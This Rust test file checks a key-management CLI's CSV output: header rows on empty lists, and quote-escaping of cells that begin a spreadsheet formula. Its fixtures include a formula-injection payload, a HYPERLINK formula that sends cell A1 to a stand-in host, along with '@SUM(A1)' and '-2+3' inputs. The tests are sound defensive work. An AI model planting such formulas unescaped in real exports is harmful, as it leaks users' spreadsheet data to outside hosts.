//! CSV output (contract §5): every CSV starts with its header row, even
//! with no rows, and no cell starts a spreadsheet formula.

use crate::store_test;
use crate::support::Env;

const HYPERLINK: &str = r#"=HYPERLINK("http://x.example/?"&A1,"open")"#;
/// The same cell as CSV writes it: a leading `'`, quotes doubled.
const HYPERLINK_CELL: &str = r#""'=HYPERLINK(""http://x.example/?""&A1,""open"")""#;

fn csv(env: &Env, args: &[&str]) -> String {
    let mut a = vec!["--format", "csv"];
    a.extend_from_slice(args);
    env.ok(&a)
}

store_test!(
    fn cells_that_start_a_formula_get_a_quote(env) {
        let (_, id) = env.mint(HYPERLINK, "org:acme", &["read"], &["--note", "@SUM(A1)"]);
        let list = csv(env, &["keys", "list"]);
        let row = list.lines().nth(1).unwrap();
        assert!(row.contains(&format!(",{HYPERLINK_CELL},")), "{list}");
        assert!(row.ends_with(",'@SUM(A1)"), "{list}");
        assert!(!list.contains(&format!(",{HYPERLINK}")), "{list}");
        // A single item goes through the same writer.
        let show = csv(env, &["keys", "show", &id]);
        assert!(show.lines().nth(1).unwrap().contains(HYPERLINK_CELL), "{show}");
        // So does `audit summary`, which builds its own columns.
        env.run(&["--actor=-2+3", "keys", "revoke", &id]).expect(0);
        let summary = csv(env, &["audit", "summary", "--by", "actor"]);
        assert!(summary.lines().any(|l| l == "'-2+3,1"), "{summary}");
        assert!(summary.lines().any(|l| l == "tester,2"), "{summary}");
        let events = csv(env, &["audit", "query", "--action", "key.revoke"]);
        assert!(events.lines().nth(1).unwrap().contains(",'-2+3,"), "{events}");
    }
);

store_test!(
    fn empty_lists_print_their_header(env) {
        assert_eq!(
            csv(env, &["keys", "list"]),
            "id,name,prefix,kind,scopes,abilities,tools,status,created_at,created_by,expires_at,\
             last_used_at,revoked_at,revoked_reason,rate_limit_per_min,rotated_from,note\n"
        );
        assert_eq!(
            csv(env, &["credentials", "list"]),
            "id,name,kind,scope,kid,created_at,created_by,updated_at\n"
        );
        assert_eq!(
            csv(env, &["audit", "query", "--action", "no.such"]),
            "id,ts,actor,actor_kind,action,key_id,subject,tool,status,details,prev_hash,hash\n"
        );
        assert_eq!(csv(env, &["audit", "summary", "--by", "key", "--action", "no.such"]), "key,count\n");
        let empty = tempfile::tempdir().unwrap();
        assert_eq!(
            csv(env, &["scan", empty.path().to_str().unwrap()]),
            "path,line,column,commit,key_id,token,status\n"
        );
    }
);
